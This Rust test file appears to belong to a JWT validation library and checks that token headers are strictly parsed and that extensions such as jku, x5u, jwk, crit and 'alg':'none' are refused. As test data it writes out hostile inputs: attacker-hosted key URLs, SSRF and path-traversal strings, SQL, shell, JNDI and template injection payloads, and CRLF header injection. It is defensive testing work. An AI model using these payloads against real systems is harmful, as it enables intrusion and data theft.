//! What a token's header may say: its type, the name of a key, and nothing that asks for more (RFC 7515
//! §4, RFC 8725 §3).

use serde_json::{Value, json};
use stockade_tests::tenant::jwk;

use super::call::Call;
use super::change::{but_nothing_else, good, head, head_also, head_bytes, head_without, nested};
use super::table::{accepting, check};
use super::world::{ATTACKERS, two_tenants};

#[test]
fn a_name_occurs_once_in_a_header() {
    check(
        two_tenants(),
        &[accepting("each member once", good)
            .but_not(
                "the same algorithm twice",
                "malformed_token",
                head_also(r#""alg":"RS256""#),
            )
            .but_not(
                "none after RS256",
                "malformed_token",
                head_also(r#""alg":"none""#),
            )
            .but_not(
                "none under an escaped name",
                "malformed_token",
                head_also(r#""\u0061lg":"none""#),
            )
            .but_not(
                "another key after the first",
                "malformed_token",
                head_also(r#""kid":"sister""#),
            )
            .but_not(
                "the same key under an escaped name",
                "malformed_token",
                head_also(r#""k\u0069d":"ours""#),
            )
            .but_not(
                "two types",
                "malformed_token",
                head_also(r#""typ":"at+jwt""#),
            )
            .but_not(
                "a member that nobody reads twice",
                "malformed_token",
                head_also(r#""x":1,"x":1"#),
            )
            .but_not(
                "a member twice further down",
                "malformed_token",
                head_also(r#""x":{"y":1,"y":2}"#),
            )],
    );
}

#[test]
fn what_asks_for_more_than_a_signature_is_refused() {
    let theirs = || jwk("ours", ATTACKERS.numbers(), "");
    let mut pairs = vec![
        accepting("a header as it is", good)
            .but_not(
                "the type of an access token of RFC 9068",
                "token_header",
                head("typ", "at+jwt"),
            )
            .but_not("the type JOSE", "token_header", head("typ", "JOSE"))
            .but_not("the type JWS", "token_header", head("typ", "JWS"))
            .but_not(
                "the type of a logout token",
                "token_header",
                head("typ", "logout+jwt"),
            )
            .but_not(
                "the type of a proof",
                "token_header",
                head("typ", "dpop+jwt"),
            )
            .but_not("the type pop", "token_header", head("typ", "pop"))
            .but_not("the type in lower case", "token_header", head("typ", "jwt"))
            .but_not(
                "the type as a media type",
                "token_header",
                head("typ", "application/jwt"),
            )
            .but_not(
                "a list of types",
                "token_header",
                head("typ", json!(["JWT"])),
            )
            .but_not("a number as the type", "token_header", head("typ", 1))
            .but_not("an empty type", "token_header", head("typ", ""))
            .but_not("no type", "token_header", head_without("typ"))
            .but_not(
                "a nonce, as Graph's tokens have",
                "microsoft_graph",
                head("nonce", "AQABAAAAAAB"),
            )
            .but_not("a key of its own", "token_header", head("jwk", theirs())),
        accepting("the tenant's signature", good).but_not(
            "one by the key that it brings",
            "token_header",
            move |call| call.token(|token| token.head("jwk", theirs()).signed_with(&ATTACKERS)),
        ),
        accepting("a hash of the key's certificate", || {
            head("x5t", "abc")(good())
        }),
        accepting("a member that nobody knows", || {
            head("xms_later", "abc")(good())
        }),
    ];
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!("exp")),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("cty", json!("JWT")),
        ("jku", json!("https://attacker.example/keys")),
        ("jku", json!("")),
        ("x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", json!(["MIIBszCCAVmgAwIBAgIUC2xh"])),
        ("x5c", json!([])),
        ("jwk", json!({"kty": "oct", "k": "AAAA"})),
        ("jwk", json!(null)),
    ] {
        pairs.push(accepting("a header without extensions", good).but_not(
            name,
            "token_header",
            head(name, value),
        ));
    }
    check(two_tenants(), &pairs);
}

#[test]
fn the_name_of_a_key_is_text_of_bounded_length_and_nothing_is_made_of_it() {
    let long = |length: usize| "hostile".chars().cycle().take(length).collect::<String>();
    let hostile = |rule: &'static str, names: &[&'static str]| {
        let pair = accepting("the name of a published key", good);
        names.iter().fold(pair, |pair, name| {
            pair.but_not(*name, rule, head("kid", *name))
        })
    };
    check(
        two_tenants(),
        &[
            accepting("a name", good)
                .but_not("none", "token_header", head_without("kid"))
                .but_not("an empty one", "token_header", head("kid", ""))
                .but_not("a number", "token_header", head("kid", 7))
                .but_not("null", "token_header", head("kid", Value::Null))
                .but_not("a list", "token_header", head("kid", json!(["ours"])))
                .but_not("an object", "token_header", head("kid", json!({"ours": 1})))
                .but_not(
                    "one of 128 characters that nobody has",
                    "unknown_key",
                    head("kid", long(128)),
                )
                .but_not(
                    "one of 129 characters",
                    "token_header",
                    head("kid", long(129)),
                )
                .but_not(
                    "one of 4000 characters",
                    "token_header",
                    head("kid", long(4000)),
                )
                .but_not(
                    "the hash of a certificate in its place",
                    "token_header",
                    |call| call.token(|token| token.head("x5t", "ours").head_without("kid")),
                )
                .but_not("another key's", "unknown_key", head("kid", "hostile-name")),
            hostile("unknown_key", HOSTILE_NAMES),
            hostile(
                "token_header",
                &[
                    "ours ",
                    " ours",
                    "hostile\nname",
                    "hostile\r\nSet-Cookie: a=b",
                    "hostile\0name",
                    "hostile\tname",
                    "hostile\u{1b}[31mname",
                    "hostile\u{7f}name",
                    "hostilé-name",
                    "о\u{443}rs-hostile",
                    "ours\u{200b}",
                    "hostile name",
                    "hostile\u{2028}name",
                    "hostile\u{202e}name",
                ],
            ),
        ],
    );
}

#[test]
fn a_header_is_one_strict_json_object() {
    let replaced = |from: &'static str, to: &'static str| {
        head_bytes(move |text| {
            assert!(text.contains(from), "{from} is in {text}");
            text.replacen(from, to, 1).into_bytes()
        })
    };
    let deep = |levels| move |call: Call| call.token(|token| token.head_also(&nested(levels)));
    check(
        two_tenants(),
        &[
            but_nothing_else(accepting("an object", good), head_bytes)
                .but_not(
                    "an empty object",
                    "algorithm",
                    head_bytes(|_| b"{}".to_vec()),
                )
                .but_not("a comma at the end", "malformed_token", replaced("}", ",}"))
                .but_not(
                    "single quotes",
                    "malformed_token",
                    replaced("\"alg\"", "'alg'"),
                )
                .but_not(
                    "a name without quotes",
                    "malformed_token",
                    replaced("\"alg\"", "alg"),
                )
                .but_not("NaN", "malformed_token", head_also(r#""x":NaN"#))
                .but_not(
                    "a number in hexadecimal",
                    "malformed_token",
                    head_also(r#""x":0x1"#),
                )
                .but_not(
                    "a number with a zero before it",
                    "malformed_token",
                    head_also(r#""x":01"#),
                )
                .but_not(
                    "half a surrogate pair",
                    "malformed_token",
                    head_also(r#""x":"\ud800""#),
                )
                .but_not(
                    "a line end inside a text",
                    "malformed_token",
                    head_also("\"x\":\"\n\""),
                )
                .but_not("bytes that are not UTF-8", "malformed_token", |call| {
                    call.token(|token| {
                        token.head_also(r#""x":"@""#).head_bytes(|text| {
                            text.bytes()
                                .map(|byte| if byte == b'@' { 0xff } else { byte })
                                .collect()
                        })
                    })
                })
                .but_not("an overlong slash", "malformed_token", |call| {
                    call.token(|token| {
                        token.head_also(r#""x":"@""#).head_bytes(|text| {
                            let (before, after) = text.split_once('@').expect("it was put there");
                            [before.as_bytes(), b"\xc0\xaf", after.as_bytes()].concat()
                        })
                    })
                }),
            accepting("white space around it", move || {
                head_bytes(|text| format!(" \n{text}\t ").into_bytes())(good())
            }),
            // The header itself is the first of eight levels.
            accepting("seven levels in it", move || deep(7)(good()))
                .but_not("eight", "malformed_token", move |_| deep(8)(good()))
                .but_not("a thousand", "malformed_token", move |_| deep(1000)(good())),
        ],
    );
}

/// Names that a key can have and that mean something elsewhere: in a path, an address, a query.
pub(crate) const HOSTILE_NAMES: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2fhostile",
    "/dev/null",
    "file:///etc/hostile",
    "https://attacker.example/keys",
    "http://169.254.169.254/hostile",
    "ours?appid=hostile",
    "ours#hostile",
    "'OR'1'='1'--hostile",
    "\";DROP/**/TABLE/**/keys;--hostile",
    "$(touch${IFS}hostile)",
    "`hostile`",
    "{{7*7}}hostile",
    "${jndi:ldap://attacker.example/hostile}",
    "%00hostile%0d%0a",
    "<script>hostile</script>",
    "OURS/../ours/hostile",
    "__proto__.hostile",
];
